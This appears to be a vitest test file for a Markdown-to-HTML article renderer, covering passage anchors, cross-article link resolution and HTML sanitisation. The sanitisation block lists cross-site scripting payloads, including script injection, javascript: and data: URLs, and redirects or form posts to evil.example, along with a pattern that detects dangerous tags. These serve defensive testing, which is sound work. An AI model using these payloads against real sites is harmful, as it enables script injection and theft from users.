import fc from "fast-check";
import { toHtml } from "hast-util-to-html";
import { describe, expect, test } from "vitest";
import { parsePassageId } from "../../../src/contract/article-id.ts";
import type { PreparedArticle } from "../../../src/corpus/article.ts";
import { wildMarkdown } from "../../support/arbitrary-markdown.ts";
import { makeCorpus, makeIndex } from "../../support/make-index.ts";
import { elementsOfHtml, linesOfHtml } from "../../support/read-html.ts";

const render = (text: string) => makeCorpus({ "a.md": text, "b.md": "Text." }).articles[0]?.html ?? "";

const DANGEROUS = /^(?:script|style|iframe|object|embed|form|base|meta|link|svg|math|template|noscript)$/;

/** What a browser would run of HTML, or be led away by. */
function dangersOf(html: string): string[] {
  return elementsOfHtml(html).flatMap(({ tagName, properties }) => [
    ...(DANGEROUS.test(tagName) ? [tagName] : []),
    ...Object.keys(properties).filter((name) => /^on|^style$|^srcdoc$/i.test(name)),
    ...Object.values(properties)
      .map(String)
      .filter((value) => /^[\s\0]*(?:javascript|vbscript|data):/i.test(value)),
  ]);
}

describe("Nothing in an article runs on the reader page", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "text <b onmouseover='alert(1)'>bold</b>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<math><mi//xlink:href="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">go</a>',
    '<a href="java\nscript:alert(1)">go</a>',
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](&#106;avascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[go][1]\n\n[1]: javascript:alert(1)",
    "<form action=//evil.example><input></form>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">over all</p>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
  ];

  test.each(attacks)("%s", (attack) => {
    expect(dangersOf(render(`Text.\n\n${attack}`))).toEqual([]);
  });

  test("nor when attacks are cut and mixed", () => {
    const piece = fc.constantFrom(...attacks.flatMap((attack) => attack.split(/(?<=[>\s"(])/)));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        expect(dangersOf(render(`Text.\n\n${pieces.join("")}`))).toEqual([]);
      }),
    );
  });

  test("Code is shown as it is written", () => {
    expect(linesOfHtml(render("`<script>alert(1)</script>`"))).toEqual(["<script>alert(1)</script>"]);
  });
});

const LONG = Array.from({ length: 60 }, (_, at) => `Sentence ${at} has ten *words* &amp; they are these.`);

/** Anchors of the passages that have no element, or more than one, on the reader page. */
function lostAnchors({ html, passages }: PreparedArticle): string[] {
  const ids = elementsOfHtml(html).map(({ properties }) => properties.id);
  const anchors = passages.map(({ id }) => parsePassageId(id).anchor);
  return anchors.filter((anchor) => ids.filter((id) => id === anchor).length !== 1);
}

describe("Every passage can be linked to on the reader page:", () => {
  test.each([
    ["one that begins a section", "# Title\n\nOne.\n\n## Next\n\nTwo."],
    ["one that begins within a paragraph", LONG.join(" ")],
    ["one that begins within a table", ["| A |", "|---|", ...LONG.map((line) => `| ${line} |`)].join("\n")],
    ["one that begins within a list", LONG.map((line) => `- ${line}`).join("\n")],
    ["one that begins within a list in a list", `- all\n${LONG.map((line) => `  - ${line}`).join("\n")}`],
    ["one that begins within a quotation", `> ${LONG.join(" ")}`],
    ["one that begins within code", `\`\`\`\n${LONG.join("\n")}\n\`\`\``],
    ["a heading with nothing under it", "# Title\n\nOne.\n\n## Nothing\n\n## Next\n\nTwo."],
    ["one that begins with HTML", "# Title\n\n<div>One.</div>"],
    ["one that begins with a picture", "![A map](map.png)\n\nOne."],
    ["one that is a footnote", "One.[^1]\n\n## Next\n\n[^1]: Two."],
  ])("%s", (_, text) => {
    expect(makeCorpus({ "a.md": text }).articles.flatMap(lostAnchors)).toEqual([]);
  });
});

test("No Markdown, however broken, stops a build", () => {
  fc.assert(
    fc.property(wildMarkdown, (markdown) => {
      expect(dangersOf(render(`Text.\n\n${markdown}`))).toEqual([]);
    }),
  );
});

test("A section can be linked to by its name", () => {
  expect(render("Text.\n\n## Seoul stays cool\n\nText.")).toContain('<h2 id="seoul-stays-cool">');
});

test("A heading that is the title is not shown a second time", () => {
  expect(render("# Talks refused\n\nText.")).not.toContain("Talks refused");
});

test("Lines that are wrapped by hand do not run together on the page", () => {
  const { articles } = makeCorpus({ "a.txt": "Lines that are wrapped\nby hand, and not\nat their ends." });
  expect(linesOfHtml(articles[0]?.html ?? "")).toEqual(["Lines that are wrapped by hand, and not at their ends."]);
});

test("Every section is an anchor of the page, that of a heading too which only says the title", () => {
  const { articles } = makeCorpus({ "a.md": "---\ntitle: Talks\n---\n# Talks\n\nFirst.\n\n## Later\n\nSecond." });
  const [article] = articles;
  const ids = elementsOfHtml(article?.html ?? "").map(({ properties }) => properties.id);
  expect(article?.sections.map(({ id }) => id)).toEqual(["talks", "later"]);
  expect(ids).toEqual(expect.arrayContaining(["talks", "later"]));
});

describe("A browser can mark a passage whole, as one element:", () => {
  const wrappers = (markdown: string) => {
    const [article] = makeCorpus({ "a.md": markdown }).articles;
    const elements = elementsOfHtml(article?.html ?? "");
    return (article?.passages ?? []).map(({ id }) =>
      elements.find(({ properties }) => properties.id === parsePassageId(id).anchor),
    );
  };

  test("one of several blocks", () => {
    const [first, second] = wrappers("# Title\n\nOne.\n\n- two\n- three\n\n## Next\n\nFour.\n\nFive.");
    expect(first && linesOfHtml(toHtml(first))).toEqual(["One.", "two", "three"]);
    expect(second && linesOfHtml(toHtml(second))).toEqual(["Four.", "Five."]);
  });

  test("one that is a heading, spaces behind it or not", () => {
    for (const markdown of ["# Title\n\nText.\n\n## Next", "# Title\n\nText.\n\n## Next  "])
      expect(wrappers(markdown).map((element) => element && linesOfHtml(toHtml(element)))).toEqual([
        ["Text."],
        ["Next"],
      ]);
  });

  test("one of some sentences of a paragraph", () => {
    const sentence = "These are ten words that **say** it _over_ and over. ";
    const [first, second] = wrappers(sentence.repeat(40));
    for (const element of [first, second])
      expect(element && toHtml(element)).toMatch(/^<span.*These.*over\.<\/span>$/s);
  });
});

describe("A link of an article leads on from its page", () => {
  const FILES = { "guide/b.md": "Text.", "c++.md": "Text.", "ü b.md": "Text." };

  /** Where the first link leads in an article at `docs/a.md`. */
  function follow(link: string, head = ""): unknown {
    const { articles } = makeCorpus({ ...FILES, "docs/a.md": `${head}Text with ${link}\n` });
    const html = articles.find(({ record }) => record.id === "docs-a")?.html ?? "";
    return elementsOfHtml(html).find(({ tagName }) => tagName === "a")?.properties.href;
  }

  test.each([
    ["[x](../guide/b.md)", "/articles/guide-b"],
    ["[x](/guide/b.md#part-two)", "/articles/guide-b#part-two"],
    ["[x](../c++.md)", "/articles/c-plus-plus"],
    ["[x](<../ü b.md>)", "/articles/%C3%BC-b"],
    ["[x](/guide/b/)", "/articles/guide-b"],
    ["[x](../guide/b)", "/articles/guide-b"],
    ['<a href="../guide/b.md">x</a>', "/articles/guide-b"],
    ["[x]\n\n[x]: ../guide/b.md", "/articles/guide-b"],
    ["[x](#here)", "#here"],
    ["[x](../data.csv)", "../data.csv"],
    ["[x](https://a.example/b.md)", "https://a.example/b.md"],
    ["[x](//a.example/b.md)", "//a.example/b.md"],
    ["[x](mailto:a@a.example)", "mailto:a@a.example"],
  ])("%s to %s", (link, target) => {
    expect(follow(link)).toBe(target);
  });

  test("by its own address, but for other files of the corpus", () => {
    const head = "---\nurl: https://a.example/docs/a\n---\n\n";
    expect(follow("[x](../guide/b.md)", head)).toBe("/articles/guide-b");
    expect(follow("[x](../shop/)", head)).toBe("https://a.example/shop/");
    expect(follow("[x](data.csv)", head)).toBe("https://a.example/docs/data.csv");
  });
});

describe("A link between articles leads to the page of the other,", () => {
  const FILES = {
    "docs/guide/index.md": "Guide.",
    "docs/api/README.md": "Api.",
    "docs/guide/set-up.md": "Text.",
    "docs/My Notes.md": "Notes.",
    "docs/old/deep/My Notes.md": "Old notes.",
    "_posts/2020-01-01-first-day.md": "Text.",
    "pages/garden___bees.md": "Bees.",
    "content/blog/_index.md": "Blog.",
    "_manual/themes.md": "Themes.",
  };

  /** The links of an article at a path, each with what it shows. */
  function linksOf(markdown: string, path = "docs/guide/a.md"): [string, unknown][] {
    const { articles } = makeCorpus({ ...FILES, [path]: `Text with ${markdown}, and more.\n` });
    const html = articles.find(({ origin }) => origin.file === path)?.html ?? "";
    const links = elementsOfHtml(html).filter(({ tagName, properties }) => tagName === "a" && properties.href);
    return links.map((link) => [linesOfHtml(toHtml(link)).join(), link.properties.href]);
  }

  test.each([
    ["to a folder by its index", "[x](../guide/)", "/articles/docs-guide-index"],
    ["to its own folder", "[x](./)", "/articles/docs-guide-index"],
    ["to a folder by its readme", "[x](../api/#keys)", "/articles/docs-api-readme#keys"],
    ["to a section of a site by Hugo's page of it", "[x](/blog)", "/articles/content-blog-_index"],
    ["from the root of a site whose folder the corpus is in", "[x](/guide/set-up.html)", "/articles/docs-guide-set-up"],
    [
      "from the root of a site that puts a folder before",
      "[x](/site/docs/guide/set-up)",
      "/articles/docs-guide-set-up",
    ],
    ["by the address of a page of Jekyll's collections", "[x](/manual/themes/)", "/articles/_manual-themes"],
    ["with encoded spaces", "[x](../My%20Notes.md#Two%20words)", "/articles/docs-my-notes#two-words"],
    ["from a page that a site serves as a folder", "[x](../set-up/)", "/articles/docs-guide-set-up"],
    ["by Zola's mark of the root", "[x](@/guide/set-up.md)", "/articles/docs-guide-set-up"],
    ["by Docusaurus' mark of the root", "[x](@site/docs/guide/set-up.md)", "/articles/docs-guide-set-up"],
    [
      "by Docusaurus' path of a file from the root",
      "[x](pages/garden___bees.md#hive)",
      "/articles/pages-garden___bees#hive",
    ],
    ["by Hugo's ref", '[x]({{< ref "set-up.md" >}})', "/articles/docs-guide-set-up"],
    ["by Hugo's relref", '[x]({{% relref "../api" %}})', "/articles/docs-api-readme"],
    ["by Hugo's ref with a place", '[x]({{< ref "/guide/set-up#keys" >}})', "/articles/docs-guide-set-up#keys"],
    ["by Jekyll's link", "[x]({% link _posts/2020-01-01-first-day.md %})", "/articles/_posts-2020-01-01-first-day"],
    [
      "by Jekyll's link behind the base",
      "[x]({{ site.baseurl }}{% link _posts/2020-01-01-first-day.md %})",
      "/articles/_posts-2020-01-01-first-day",
    ],
    ["by Jekyll's post_url", "[x]({% post_url 2020-01-01-first-day %})", "/articles/_posts-2020-01-01-first-day"],
    ["by the address of a post", "[x](/2020/01/01/first-day.html)", "/articles/_posts-2020-01-01-first-day"],
    ["by a path that a filter completes", "[x]({{ '/guide/set-up' | relative_url }})", "/articles/docs-guide-set-up"],
  ])("%s", (_, markdown, target) => {
    expect(linksOf(markdown)).toEqual([["x", target]]);
  });

  test.each([
    ["by its name, wherever it is", "[[set-up]]", ["set-up", "/articles/docs-guide-set-up"]],
    ["the one with the shortest path", "[[my notes]]", ["my notes", "/articles/docs-my-notes"]],
    ["by a part of its path", "[[deep/My Notes]]", ["deep/My Notes", "/articles/docs-old-deep-my-notes"]],
    ["with another text", "[[My Notes|shown here]]", ["shown here", "/articles/docs-my-notes"]],
    ["to a heading", "[[My Notes#Two words]]", ["My Notes > Two words", "/articles/docs-my-notes#two-words"]],
    ["to a block", "[[My Notes#^ab12]]", ["My Notes > ab12", "/articles/docs-my-notes"]],
    ["to a heading of its own", "[[#Two words]]", ["Two words", "#two-words"]],
    ["with an extension", "[[set-up.md]]", ["set-up.md", "/articles/docs-guide-set-up"]],
    ["by Logseq's name of a page in another", "[[garden/bees]]", ["garden/bees", "/articles/pages-garden___bees"]],
  ])("of a vault %s", (_, markdown, link) => {
    expect(linksOf(markdown)).toEqual([link]);
  });

  test("as each of several in a heading, a list and a table", () => {
    const markdown =
      "\n\n## On [[set-up]]\n\n- [[My Notes|one]] and [[My Notes|two]]\n\n| a |\n|---|\n| [[set-up\\|three]] |\n\n";
    expect(linksOf(markdown).map(([shown]) => shown)).toEqual(["set-up", "one", "two", "three"]);
  });

  test.each(["[x](gone.md)", "[x](/gone)", "[x](../gone/#part)"])(
    "and %s, to an article that is not there, is none",
    (markdown) => {
      expect(linksOf(markdown)).toEqual([]);
    },
  );

  describe("known by what its owner says of it:", () => {
    const OWN = {
      "docs/embeds.md": "---\npermalink: how-to-embed\naliases: [Embed files, /old/embeds/]\n---\n\nText.",
      "docs/deep/first.md": "---\ntitle: The very first\nslug: begin\n---\n\nText.",
      "docs/second.md": "---\nslug: /second-step\nredirect_from: [/two/]\n---\n\nText.",
      "docs/zola.md": '+++\npath = "zola/here"\n+++\n\nText.',
      "docs/hugo.md": "---\nurl: /hugo/there.html\n---\n\nText.",
      "docs/held.md": "---\npermalink: /held\ntitle: Held page\ndraft: true\n---\n\nText.",
    };

    /** What the first link of an article leads to that has some front matter. */
    function leadOf(markdown: string, { head = "", settings = "" } = {}): string | undefined {
      const { articles } = makeCorpus({ ...OWN, "corpus.yaml": settings, "a/a.md": `${head}Text with ${markdown}.` });
      return /href="([^"]*)"/.exec(articles.find(({ record }) => record.id === "a-a")?.html ?? "")?.[1];
    }

    test.each([
      ["[[Embed files]]", "/articles/docs-embeds"],
      ["[[embed  Files#Two words|x]]", "/articles/docs-embeds#two-words"],
      ["[[The very first]]", "/articles/docs-deep-first"],
      ["[x](/how-to-embed)", "/articles/docs-embeds"],
      ["[x](/how-to-embed/#part)", "/articles/docs-embeds#part"],
      ["[x](/old/embeds)", "/articles/docs-embeds"],
      ["[x](/docs/deep/begin)", "/articles/docs-deep-first"],
      ["[x](/second-step)", "/articles/docs-second"],
      ["[x](/two/)", "/articles/docs-second"],
      ["[x](/zola/here/)", "/articles/docs-zola"],
      ["[x](/hugo/there.html)", "/articles/docs-hugo"],
      ["[x](/held)", undefined],
      ["[[Held page]]", undefined],
    ])("%s leads to %s", (markdown, target) => {
      expect(leadOf(markdown)).toBe(target);
      expect(leadOf(markdown, { settings: "base: https://a.example" })).toBe(target);
    });

    test.each([
      ["permalink: /hugo/here/", "[x](../there)"],
      ["url: https://a.example/hugo/here/", "[x](../there.html)"],
      ["url: https://a.example/shop/", "[x](/hugo/there)"],
    ])("under %s, %s leads on from that address", (key, markdown) => {
      const head = `---\n${key}\n---\n\n`;
      expect(leadOf(markdown, { head, settings: "base: https://a.example" })).toBe("/articles/docs-hugo");
    });
  });

  test.each([
    ["held back", "---\ndraft: true\n---\n\nText."],
    ["without text", "---\ntitle: Empty\n---\n"],
    ["that comes later and is held back", "---\nsearch: false\n---\n\nText.", "docs/zzz.md"],
    ["that becomes no article", "", "docs/held.jsonl"],
  ])("and one to a file %s shows its text alone", (_, content, path = "docs/held.md") => {
    const name = path.slice("docs/".length);
    const markdown = `[one](${name}), [[${name}|two]] and [three](https://a.example/)`;
    const { articles } = makeCorpus({ [path]: content, "docs/a.md": `Text with ${markdown}.` });
    const html = articles.find(({ record }) => record.id === "docs-a")?.html ?? "";
    expect(linesOfHtml(html)).toEqual(["Text with one, two and three."]);
    expect(html.match(/href="[^"]*"/g)).toEqual(['href="https://a.example/"']);
  });

  test("and one to a page that is held back is not led to another of that name", () => {
    const held = { "notes/Plan.md": "---\ndraft: true\n---\n\nText.", "older/notes/Plan.md": "Another plan." };
    const { articles } = makeCorpus({ ...held, "a.md": "Text with [[Plan]]." });
    expect(articles.find(({ record }) => record.id === "a")?.html).not.toContain("href");
  });

  test("and one to a copy opens what that is a copy of", async () => {
    const long = `# A\n\n${"This sentence makes the texts of both files long enough to be one article. ".repeat(5)}`;
    const index = await makeIndex({ "a.md": long, "b.md": long, "c.md": "Text with [x](b.md)." });
    const [from, copied] = ["c", "b"].map((id) => index.findArticle(id) ?? -1);
    const heads = await index.articles.readHeads([from ?? -1]);
    const pages = await Promise.all(heads.map((head) => index.articles.readPage(head)));
    expect(pages).toEqual([expect.stringContaining('href="/articles/b"')]);
    expect(copied).toBe(index.findArticle("a"));
  });

  test("and one of a vault to a page that nobody wrote shows its text alone", () => {
    expect(linksOf("[[Nobody wrote this|not yet]]")).toEqual([]);
    const { articles } = makeCorpus({ "a.md": "Text with [[Nobody wrote this|not yet]], and more." });
    expect(linesOfHtml(articles[0]?.html ?? "")).toEqual(["Text with not yet, and more."]);
  });
});
